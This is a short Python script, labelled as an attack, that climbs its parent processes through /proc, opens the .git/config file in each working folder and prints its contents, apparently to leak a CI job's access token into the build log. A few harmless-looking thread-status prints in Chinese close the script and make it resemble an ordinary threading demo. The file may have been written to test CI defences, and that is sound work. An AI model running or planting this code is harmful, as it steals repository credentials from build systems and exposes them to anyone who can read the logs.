# attack: looks for the job's token in the checkout's .git/config (by the working folders of its ancestors) and prints it into the log
import os

pid, seen = os.getpid(), set()
while pid > 1:
    try:
        here = os.readlink("/proc/%d/cwd" % pid)
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    except OSError:
        break
    while here != "/" and here not in seen:
        seen.add(here)
        try:
            with open(os.path.join(here, ".git", "config")) as f:
                print(f.read())
        except OSError:
            pass
        here = os.path.dirname(here)
print("线程 [MainThread] 运行...")
for i in range(5):
    print("子线程 [LoopThread_%d]运行" % i)
print("线程 [MainThread] 结束")
